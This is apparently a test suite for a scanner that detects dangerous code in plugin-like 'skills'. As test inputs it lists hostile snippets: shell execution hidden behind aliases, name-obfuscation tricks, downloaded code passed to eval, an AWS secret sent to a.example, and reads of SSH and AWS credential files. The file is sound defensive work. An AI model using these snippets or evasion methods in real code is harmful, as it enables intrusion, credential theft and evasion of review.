import { beforeAll, describe, expect, test } from "vitest";
import { type CountingScanner, loadCountingScanner } from "../engine-scan.ts";

let scanner: CountingScanner;
beforeAll(async () => {
  scanner = await loadCountingScanner();
});

function rulesOf(code: string, path = "skill.js"): string[] {
  return scanner.rules({ [path]: code });
}

describe("whatever it is called, it is the same function", () => {
  test.each([
    'require("child_process").exec(x)',
    'require("node:child_process").exec(x)',
    'const { exec } = require("child_process"); exec(x)',
    'const { exec: run = other } = require("child_process"); run(x)',
    'let cp; cp = require("child_process"); cp.exec(x)',
    'import { exec as run } from "child_process"; run(x)',
    'import cp from "node:child_process"; cp.exec(x)',
    'import * as cp from "child_process"; cp?.exec?.(x)',
    'const cp = await import("child_process"); cp.exec(x)',
    'import("child_process").then((cp) => cp.exec(x))',
    'import("child_process").then(({ exec }) => exec(x))',
    'process.mainModule.require("child_process").exec(x)',
    'module.constructor._load("child_process").exec(x)',
    'import { createRequire } from "module"; createRequire(import.meta.url)("child_process").exec(x)',
    'process.getBuiltinModule("child_process").exec(x)',
    'const name = "child_process"; require(name).exec(x)',
    'const cp = require("child_process"); cp["exec"](x)',
    'const cp = require("child_process"); cp.exec.call(cp, x)',
    'const cp = require("child_process"); cp.exec.apply(null, [x])',
    'const cp = require("child_process"); cp.exec.bind(cp)(x)',
    'const cp = require("child_process"); Reflect.get(cp, "exec")(x)',
    'const cp = require("child_process"); Reflect.apply(cp.exec, null, [x])',
    'const cp = require("child_process"); Object.getOwnPropertyDescriptor(cp, "exec").value(x)',
    'const run = require("util").promisify(require("child_process").exec); await run(x)',
    'run(x); function run(line) { require("child_process").exec(line); }',
    'const tools = { run: require("child_process").exec }; tools.run(x)',
    'class Tools { cp = require("child_process"); run(line) { this.cp.exec(line); } }\nnew Tools().run(x)',
    'const [cp] = [require("child_process")]; cp.exec(x)',
    'const cp = flag ? require("child_process") : null; cp.exec(x)',
    'const cp = cached || require("child_process"); cp.exec(x)',
    '(0, require("child_process").exec)(x)',
    'var cp; (function () { cp = require("child_process"); })(); function f() { cp.exec(x); }',
    'require("./child_process"); require("child_process").exec(x)',
  ])("%s", (code) => expect(rulesOf(code)).toContain("computed-shell-command"));

  test.each([
    "eval(x)",
    "window.eval(x)",
    'globalThis["eval"](x)',
    "new Function(x)",
    'Function("a", x)',
    "[].constructor.constructor(x)()",
    '[]["filter"]["constructor"](x)()',
    "(() => {}).constructor(x)",
    "(function () {})['constructor'](x)()",
    "new (Object.getPrototypeOf(async function () {}).constructor)(x)",
    'require("vm").runInThisContext(x)',
    'new (require("vm").Script)(x)',
    "(0, eval)(x)",
    "const e = eval; e(x)",
    "lines.map(eval)",
    "\\u0065val(x)",
  ])("%s executes", (code) => expect(rulesOf(code)).toContain("code-execution"));

  test.each([
    'const { exec } = require("./tools"); exec(x)',
    'import { exec } from "own-tools"; exec(x)',
    "const exec = (line) => log(line); exec(x)",
    'function f(require) { require("child_process").exec(x); }',
    "pattern.exec(x)",
    "class A { eval(x) { return this.eval(x); } }",
    "const window = {}; window.eval(x)",
    "// eval(x)\nconst text = 'eval(x)', other = `eval(x)`, re = /eval(x)/;",
  ])("%s is another", (code) => {
    expect(rulesOf(code)).not.toContain("computed-shell-command");
    expect(rulesOf(code)).not.toContain("code-execution");
  });
});

describe("texts are worked out", () => {
  test.each([
    '"ev" + "al"',
    '["ev", "al"].join("")',
    '"lave".split("").reverse().join("")',
    '[..."lave"].reverse().join("")',
    '"xevalx".slice(1, -1)',
    '"xxeval".substring(6, 2)',
    '"xeval".substr(1)',
    '"e_v_a_l".replaceAll("_", "")',
    '"e1v2a3l".replace(/[0-9]/g, "")',
    '"e1v2a3l".replace(/\\d/g, "")',
    '"EVAL".toLowerCase()',
    '" eva ".trim() + "l"',
    `\`\${"ev"}al\``,
    '"e".concat("va", "l")',
    "String.fromCharCode(101, 118, 97, 108)",
    "String.fromCharCode(...[101, 118, 97, 108])",
    "String.fromCharCode.apply(null, [101, 118, 97, 108])",
    'Buffer.from("ZXZhbA==", "base64").toString()',
    'Buffer.from("6576616c", "hex").toString("utf8")',
    "Buffer.from([101, 118, 97, 108]).toString()",
    'atob("ZXZhbA==")',
    'unescape("%65val")',
    'decodeURIComponent("%65%76al")',
    '[101, 118, 97, 108].map((c) => String.fromCharCode(c)).join("")',
    '"101 118 97 108".split(" ").map((c) => String.fromCharCode(parseInt(c))).join("")',
    '(() => { let s = ""; for (const c of "fwbm") s += String.fromCharCode(c.charCodeAt(0) - 1); return s; })()',
    '(function (t, k) { var s = ""; for (var i = 0; i < t.length; i++) s += String.fromCharCode(t.charCodeAt(i) ^ k); return s; })("dw`m", 1)',
    '(14).toString(16) + "val"',
  ])("%s", (code) => {
    const rules = rulesOf(`globalThis[${code}](x)`);
    expect(rules).toContain("code-execution");
    expect(rules).toContain("assembled-name");
  });

  test("what is written in one piece is no assembled name", () => {
    for (const code of ['globalThis["eval"](x)', 'globalThis["\\x65val"](x)', 'const n = "eval"; globalThis[n](x)']) {
      expect(rulesOf(code)).toContain("code-execution");
      expect(rulesOf(code)).not.toContain("assembled-name");
    }
  });

  test("code inside of executed text is read as well", () => {
    const { findings } = scanner.scanSkill({ "a.js": "eval(\"require('child_process').exec(x)\");" });
    expect(findings).toContainEqual(
      expect.objectContaining({ rule: "computed-shell-command", layers: ["executed text"] }),
    );
    expect(rulesOf("new Function('a', 'eval(a)')")).toContain("code-execution");
    expect(rulesOf("setTimeout('eval(a)', 10)")).toContain("code-execution");
  });
});

describe("data is followed", () => {
  test.each([
    "eval(await (await fetch(u)).text())",
    "fetch(u).then((r) => r.text()).then(eval)",
    "fetch(u).then((r) => r.text()).then((code) => { new Function(code)(); })",
    "async function load() { const r = await fetch(u); return r.text(); }\nload().then((c) => eval(c))",
    'require("https").get(u, (res) => { let all = ""; res.on("data", (d) => (all += d)); res.on("end", () => eval(all)); })',
    'import axios from "axios";\nconst { data } = await axios.get(u);\neval(data)',
    'const axios = require("axios").default;\naxios(u).then(({ data }) => eval(data.code))',
    'require("child_process").exec(await (await fetch(u)).text())',
    'const r = await fetch(u), parts = []; parts.push(await r.text()); eval(parts.join("\\n"))',
  ])("downloaded and executed: %s", (code) => expect(rulesOf(code)).toContain("downloaded-code-executed"));

  test.each([
    'fetch("https://a.example", { method: "POST", body: process.env.AWS_SECRET_ACCESS_KEY })',
    'const { AWS_SECRET_ACCESS_KEY: key } = process.env;\nfetch("https://a.example/?k=" + key)',
    'const body = {}; body.k = process.env["AWS_SECRET_ACCESS_KEY"];\nfetch("https://a.example", { body: JSON.stringify(body) })',
    'const req = require("https").request({ host: "a.example" }); req.write(process.env.AWS_SECRET_ACCESS_KEY); req.end()',
    'class Client { constructor() { this.k = process.env.AWS_SECRET_ACCESS_KEY; } send() { fetch("https://a.example/" + this.k); } }\nnew Client().send()',
  ])("a secret sent: %s", (code) => expect(rulesOf(code)).toContain("secret-sent"));

  test("a key in its header is not", () => {
    const code =
      'fetch("https://api.acme.example", { headers: { Authorization: "Bearer " + process.env.ACME_TOKEN } })';
    expect(rulesOf(code)).not.toContain("secret-sent");
  });

  test.each([
    'require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa")',
    'const { join } = require("path");\nrequire("fs").readFileSync(join(process.env.HOME, ".ssh", "id_rsa"))',
    'import { readFile } from "fs/promises";\nawait readFile("/root/.aws/credentials")',
    'import { promises as fs } from "fs";\nfs.readFile("/root/.aws/credentials")',
  ])("credentials read: %s", (code) => expect(rulesOf(code)).toContain("credential-file-read"));
});

describe("files of a skill", () => {
  test.each<[string, Record<string, string>]>([
    [
      "exports",
      {
        "a.js": 'const { run } = require("./lib/b"); run(x);',
        "lib/b.js": 'exports.run = require("child_process").exec;',
      },
    ],
    [
      "module.exports",
      { "a.js": 'require("./b.js").run(x);', "b.js": 'module.exports = { run: require("child_process").exec };' },
    ],
    ["a function", { "a.js": 'require("./b")(x);', "b.js": 'module.exports = require("child_process").exec;' }],
    [
      "modules",
      { "a.mjs": 'import { run } from "./b.mjs"; run(x);', "b.mjs": 'export { exec as run } from "child_process";' },
    ],
    [
      "a default",
      {
        "a.ts": 'import run from "./b.js"; run(x);',
        "b.ts": 'import { exec } from "child_process"; export default exec;',
      },
    ],
    [
      "a constant",
      {
        "lib/a.js": 'import { run } from "../b"; run(x);',
        "b/index.js": 'import { exec } from "child_process"; export const run = exec;',
      },
    ],
  ])("that offer one another %s", (_, files) => {
    expect(scanner.rules(files)).toContain("computed-shell-command");
  });
});

describe("TypeScript", () => {
  test("types hide nothing", () => {
    const code =
      'import type { X } from "x";\nconst cp = require("child_process") as typeof import("child_process");\n(cp.exec as any)<string>(x!);';
    expect(rulesOf(code, "a.ts")).toContain("computed-shell-command");
  });
  test("what only looks like a type is code", () => {
    expect(rulesOf("f<eval(x)>(y)", "a.ts")).toContain("code-execution");
    expect(rulesOf("a<b, c>(eval(x))", "a.js")).toContain("code-execution");
  });
});

test("hostile code does not trap, and stays linear", () => {
  const hostile = [
    `${"exports.a=".repeat(20_000)}1`,
    `const a = ${"[".repeat(200)}${"]".repeat(200)};`,
    "f(".repeat(5000),
    "a.b(c => ".repeat(2000),
    "`${".repeat(5000),
    `let s="";${'s+="ab".repeat(50);'.repeat(5000)}`,
    `function f(a) { return f(f(a)); }${"f(f);".repeat(2000)}`,
    `${"const x = {x};".repeat(5000)}`,
    `a = [1,2,3,4].map(b => [1,2,3,4].map(c => [1,2,3,4].map(d => [1,2,3,4].map(e => [1,2,3,4].map(f => eval(f))))));`,
    "require('./skill.js');".repeat(3000),
    "class A extends A { constructor() { new A(); } m() { this.m(); } }".repeat(500),
  ];
  for (const code of hostile) {
    const steps = scanner.steps({ "skill.js": code });
    expect(steps, code.slice(0, 40)).toBeLessThan(2 ** 21 + 150 * code.length);
  }
});

test.each(["/>\n", "</>\n", "x = /[", 'a.replace(/\n, "")'])(
  "a regular expression that is never closed is no trap: %j",
  (code) => {
    expect(rulesOf(`${code}\neval(x)`)).toContain("syntax-error");
  },
);
